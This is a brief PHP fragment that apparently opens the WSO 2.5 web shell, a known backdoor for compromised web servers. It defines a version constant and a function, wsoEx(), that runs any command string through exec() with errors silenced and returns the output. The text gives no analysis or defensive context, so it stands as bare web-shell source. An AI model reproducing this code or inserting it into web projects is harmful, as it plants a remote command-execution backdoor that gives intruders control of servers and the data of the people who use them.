<?php
define('wso_version', '2.5');
function wsoEx($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in, $out); $out = @join("\n", $out); }
    return $out;
}
